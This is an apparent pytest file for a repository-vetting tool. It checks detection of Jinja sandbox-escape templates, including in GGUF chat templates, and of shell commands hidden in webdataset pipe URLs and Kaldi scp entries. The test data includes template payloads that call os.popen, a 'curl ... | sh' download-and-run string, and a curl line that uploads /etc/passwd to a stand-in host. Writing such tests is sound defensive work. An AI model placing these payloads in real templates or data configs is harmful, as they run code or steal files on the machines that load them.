"""Round 22 (outside attack, round 21a F4, F5, F12): Jinja templates are found by their content,
not their name; every template judgement runs inside the run's budget; a GGUF chat template is
judged as each loader reads it (llama.cpp stops at the first NUL), and a template Jinja cannot
parse is NOT verified, not a pass."""

from __future__ import annotations

import io
import json
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from forkvet import snapshot
from forkvet.report import Risk
from forkvet.vet import chattemplates
from tests.hostile.test_round19_config_targets import EVIL_TEMPLATE, _gguf

README = {"README.md": "# Model\n\nRun `python chat.py`.\n"}
# promptflow's prompt files (round 21a F5): a role line, then Jinja the flow renders.
_PROMPT = (
    "system:\nYou are a helpful assistant. "
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}\nuser:\n{{question}}\n"
)


def _risks(make_repo: Callable[..., Path], files: dict[str, str | bytes]) -> list[Risk]:
    snap = snapshot.load(make_repo({**README, **files}, use_git=False))
    return chattemplates.template_risks(snap, time.monotonic() + 60)


# -- F5: a template is a template by its content, whatever its name -------------------------------
@pytest.mark.parametrize(
    "path",
    ["chat.jinja2", "templates/chat.j2", "flows/x.prompty", "chat.jinja.txt", "prompts/sys.txt"],
)
def test_a_template_is_judged_whatever_its_name(make_repo: Callable[..., Path], path: str) -> None:
    found = _risks(make_repo, {path: _PROMPT, "flow.dag.yaml": f"source:\n  path: {path}\n"})
    assert [r.path for r in found] == [path], found
    assert "`__" in found[0].message and found[0].severity == "error"


def test_text_with_braces_that_jinja_cannot_parse_is_no_template(
    make_repo: Callable[..., Path],
) -> None:
    # A CI expression language (`&&`), a Go template: nothing Jinja renders, named as neither.
    files = {
        ".github/workflows/ci.yml": "on: push\nif: ${{ a && b }}\n",
        "site/layouts/page.html": "{{ .Title }} {{ range .Pages }}{{ end }}",
        "chat.j2": "{% for m in messages %}{{ m.role }}: {{ m['content'] }}{% endfor %}",
    }
    assert _risks(make_repo, files) == []


@pytest.mark.parametrize("path", ["chat_template.jinja", "chat.j2", "x.prompty"])
def test_a_named_template_jinja_cannot_parse_is_not_verified(
    make_repo: Callable[..., Path], path: str
) -> None:
    found = _risks(make_repo, {path: "{{ x }}{% if %}{% endfor"})
    assert [r.path for r in found] == [path], found
    assert "NOT verified" in found[0].message


def test_a_tokenizer_template_jinja_cannot_parse_is_not_verified(
    make_repo: Callable[..., Path],
) -> None:
    doc = json.dumps({"chat_template": "{{ messages }}{% if %}"})
    found = _risks(make_repo, {"tokenizer_config.json": doc})
    assert found and "NOT verified" in found[0].message, found


# -- F12: what llama.cpp reads of a GGUF string: up to its first NUL ------------------------------
def test_a_gguf_template_cut_at_a_nul_is_judged_as_llama_cpp_reads_it() -> None:
    escape = "{{ cycler.__init__.__globals__.os.popen('id') }}"
    found = chattemplates.gguf_findings(
        io.BytesIO(_gguf(escape + "\0" + "{% if %}{% endfor")), time.monotonic() + 60
    )
    assert found and "`__" in found[0] and "NUL" in found[0], found


def test_a_gguf_template_jinja_cannot_parse_is_not_verified() -> None:
    found = chattemplates.gguf_findings(
        io.BytesIO(_gguf("{{ messages }}{% if %}{% endfor")), time.monotonic() + 60
    )
    assert found and "NOT verified" in found[0], found


def test_a_plain_gguf_template_passes() -> None:
    plain = "{% for m in messages %}{{ m['content'] }}{% endfor %}"
    assert chattemplates.gguf_findings(io.BytesIO(_gguf(plain)), time.monotonic() + 60) == []
    assert chattemplates.gguf_findings(io.BytesIO(_gguf(EVIL_TEMPLATE)), time.monotonic() + 60)


# -- F4: every template judgement inside the run's budget -----------------------------------------
def test_templates_past_the_budget_are_not_verified(
    make_repo: Callable[..., Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    plain = "{% for m in messages %}{{ m.content }}{% endfor %}"
    files = {f"t{i:02d}.jinja": plain for i in range(5)}
    monkeypatch.setattr(chattemplates, "_SECONDS", 0.0)
    found = _risks(make_repo, files)
    assert found and all("NOT verified" in r.message for r in found), found
    assert found[-1].severity == "error" and "s for templates were spent" in found[-1].message


def test_the_runs_deadline_holds_for_templates(make_repo: Callable[..., Path]) -> None:
    snap = snapshot.load(make_repo({**README, "chat.jinja": "{{ m }}"}, use_git=False))
    found = chattemplates.template_risks(snap, time.monotonic() - 1)
    assert found and "NOT verified" in found[0].message, found


def test_a_chain_of_sets_is_judged_in_linear_time() -> None:
    n = 12_000  # quadratic before: about 60 s; linear: well under a second
    chain = "{% set a0 = foo %}" + "".join(f"{{% set a{i} = a{i - 1} %}}" for i in range(1, n))
    start = time.monotonic()
    why = chattemplates.judge(chain + f"{{{{ messages[a{n - 1}] }}}}")
    assert why is not None and "computed key" in why
    assert time.monotonic() - start < 15


def test_a_task_template_keyed_by_its_data_passes_and_a_built_key_does_not(
    make_repo: Callable[..., Path],
) -> None:
    # lm-evaluation-harness task YAMLs render Jinja with the dataset's rows (no sandbox)
    task = (
        'doc_to_text: "{{question}} {% for c in choices %}{{ c }}{% endfor %}"\n'
        "doc_to_target: \"{{choices[label]}} {{ doc['answers'][gold] }}\"\n"
        "html: \"{% for id in ids %}{% for m in models_by_id[id] %}{{ m['x'] }}"
        '{% endfor %}{% endfor %}"\n'
    )
    built = "doc_to_text: \"{% set k = '_' ~ '_class' ~ '__' %}{{ question[k] }}\"\n"
    found = _risks(make_repo, {"tasks/a.yaml": task, "tasks/b.yaml": built})
    assert [r.path for r in found] == ["tasks/b.yaml"], found


# -- F13, F14: data strings a library hands to a shell (forkvet/data/shell_sinks.json) -----------
def _shell(make_repo: Callable[..., Path], files: dict[str, str | bytes]) -> list[Risk]:
    from forkvet.vet import shellsinks

    snap = snapshot.load(make_repo({**README, **files}, use_git=False))
    return shellsinks.shell_risks(snap, time.monotonic() + 60)


_BAD_URLS = [
    "pipe:touch /tmp/m; cat /dev/null",
    "s3://b/x.tar::pipe:sh -c id",
    "pipe:curl -s https://x/a.tar | sh",
    "pipe:curl -sLo /tmp/x https://x/a.tar",
    "pipe:tools/fetch.sh a.tar",
    "pipe:cat $(id)",
]


@pytest.mark.parametrize("url", _BAD_URLS)
def test_a_webdataset_pipe_url_that_runs_more_than_a_download_is_an_error(
    make_repo: Callable[..., Path], url: str
) -> None:
    files = {
        "configs/data.yaml": f"data:\n  train_urls: {json.dumps(url)}\n  batch_size: 8\n",
        "configs/data.json": json.dumps({"urls": [url]}),
        "lists/train.txt": url + "\n",
        "train.py": f"import webdataset as wds\nds = wds.WebDataset({url!r})\n",
    }
    found = _shell(make_repo, files)
    assert sorted(r.path for r in found) == sorted(files), found
    assert all(r.kind == "shell-in-data" and r.severity == "error" for r in found)


def test_an_escape_in_a_yaml_string_is_judged_as_the_loader_reads_it(
    make_repo: Callable[..., Path],
) -> None:
    doc = 'urls: "pipe:curl -s https://x/a.tar\\x3b touch /tmp/m"\n'  # \x3b is `;`
    found = _shell(make_repo, {"data.yaml": doc, "raw.cfg": doc})
    assert sorted(r.path for r in found) == ["data.yaml", "raw.cfg"], found


def test_downloads_and_decoders_to_stdout_pass(make_repo: Callable[..., Path]) -> None:
    files = {
        "configs/data.yaml": (
            "train: 'pipe:curl -L -s https://h/shards/{00000..00099}.tar || true'\n"
            "val: pipe:aws s3 cp s3://bucket/val-{000..009}.tar -\n"
            "test: 'pipe:wget -qO- https://h/t.tar'\n"
        ),
        "data/train/wav.scp": (
            "utt1 sox /corpus/a.wav -t wav - remix 1 |\n"
            "utt2 /opt/kaldi/tools/sph2pipe -f wav -p -c 1 /corpus/b.sph |\n"
            "utt3 flac -c -d -s /corpus/c.flac |\nutt4 /corpus/d.wav\n"
        ),
        "conf/feats.yaml": "wav: 'scp:data/train/wav.scp'\nout: 'ark:-'\n",
        "README.md": "| a | b |\n|---|---|\n| pipe:sh -c id | x |\n",
    }
    assert _shell(make_repo, files) == []


@pytest.mark.parametrize(
    "entry",
    [
        "utt1 touch /tmp/m; cat /dev/null |",
        "utt1 bash -c 'id' |",
        "utt1 curl -s http://x/a.wav -T /etc/passwd |",
        "utt1 sox a.wav -t wav - | sh |",
    ],
)
def test_a_kaldi_list_entry_piping_a_command_is_judged(
    make_repo: Callable[..., Path], entry: str
) -> None:
    found = _shell(make_repo, {"data/train/wav.scp": f"utt0 /corpus/a.wav\n{entry}\n"})
    assert [(r.path, r.line) for r in found] == [("data/train/wav.scp", 2)], found


def test_a_kaldi_specifier_in_a_config_is_judged(make_repo: Callable[..., Path]) -> None:
    doc = {"feats": "ark:evil-feats scp:x ark:- |", "out": "ark:| gzip -c > /tmp/x"}
    found = _shell(make_repo, {"conf/kaldi.json": json.dumps(doc)})
    assert len(found) == 2 and all(r.path == "conf/kaldi.json" for r in found), found


def test_shell_strings_are_judged_in_the_vet(vet_repo: Callable[..., object]) -> None:
    report = vet_repo({**README, "configs/data.yaml": "urls: 'pipe:sh -c id'\n"})
    found = [r for r in report.risks if r.kind == "shell-in-data"]  # type: ignore[attr-defined]
    assert [r.path for r in found] == ["configs/data.yaml"], found


def test_shell_strings_past_the_budget_are_not_verified(
    make_repo: Callable[..., Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    from forkvet.vet import shellsinks

    monkeypatch.setattr(shellsinks, "_SECONDS", 0.0)
    found = _shell(make_repo, {"configs/data.yaml": "urls: 'pipe:curl -s https://x/a.tar'\n"})
    assert found and "NOT verified" in found[-1].message, found


# -- the real loaders (each skips when it is not installed) ---------------------------------------
def _child(tmp_path: Path, code: str) -> bool:
    """Run code in a child (FORKVET_LOADER_PATH, as in test_loader_differential, adds
    loaders installed elsewhere to its sys.path); whether it exited 0."""
    import os
    import subprocess
    import sys

    env = dict(os.environ)
    extra = os.environ.get("FORKVET_LOADER_PATH", "")
    env["PYTHONPATH"] = os.pathsep.join(p for p in (extra, env.get("PYTHONPATH", "")) if p)
    done = subprocess.run(
        [sys.executable, "-c", code], cwd=tmp_path, env=env, timeout=60, check=False
    )
    return done.returncode == 0


def _needs(tmp_path: Path, module: str) -> None:
    if not _child(tmp_path, f"import {module}"):
        pytest.skip(f"{module} is not installed (FORKVET_LOADER_PATH)")


def test_promptflow_s_render_call_runs_what_forkvet_flags(
    make_repo: Callable[..., Path], tmp_path: Path
) -> None:
    # promptflow-tools 1.3.0 `render_jinja_template`: Template(prompt, trim_blocks=True,
    # keep_trailing_newline=True).render(**kwargs) — jinja2 is forkvet's own dependency
    marker = tmp_path / "pf_marker"
    prompt = _PROMPT.replace("popen('id')", f"popen('touch {marker}')")
    (tmp_path / "x.prompty").write_text(prompt)
    _child(
        tmp_path,
        "from jinja2 import Template\nTemplate(open('x.prompty').read(), trim_blocks=True, "
        "keep_trailing_newline=True).render(question='q')",
    )
    assert marker.exists()
    assert [r.path for r in _risks(make_repo, {"flows/x.prompty": prompt})] == ["flows/x.prompty"]


def test_webdataset_runs_the_pipe_url_forkvet_flags(
    make_repo: Callable[..., Path], tmp_path: Path
) -> None:
    _needs(tmp_path, "webdataset")
    marker = tmp_path / "wds_marker"
    url = f"pipe:touch {marker}; cat /dev/null"
    _child(tmp_path, f"from webdataset.gopen import gopen\ngopen({url!r}).read()")
    assert marker.exists()
    assert _shell(make_repo, {"configs/data.yaml": f"urls: {json.dumps(url)}\n"})


def test_kaldiio_runs_the_scp_entry_forkvet_flags(
    make_repo: Callable[..., Path], tmp_path: Path
) -> None:
    _needs(tmp_path, "kaldiio")
    marker = tmp_path / "kaldi_marker"
    scp = f"utt1 touch {marker}; cat /dev/null |\n"
    (tmp_path / "wav.scp").write_text(scp)
    _child(tmp_path, "import kaldiio\nfor k, v in kaldiio.load_scp('wav.scp').items(): pass")
    assert marker.exists()
    assert _shell(make_repo, {"data/train/wav.scp": scp})


@pytest.mark.parametrize(
    "url",
    [
        "pipe:/proc/self/cwd/bin/curl -s https://h/a.tar",
        "pipe:/dev/fd/3 -s https://h/a.tar",
        "pipe:/tmp/curl -s https://h/a.tar",
        "pipe:/usr/bin/../../proc/self/cwd/curl -s https://h/a.tar",
    ],
)
def test_an_absolute_program_path_through_the_kernels_views_is_an_error(
    make_repo: Callable[..., Path], url: str
) -> None:
    """Round 22a F22: `/proc/self/cwd/bin/curl` was judged by its last name (curl) and
    passed; it runs the tree's own `bin/curl`."""
    files = {"configs/data.yaml": f"train: '{url}'\n", "bin/curl": "#!/bin/sh\nid\n"}
    assert [r.path for r in _shell(make_repo, files)] == ["configs/data.yaml"]
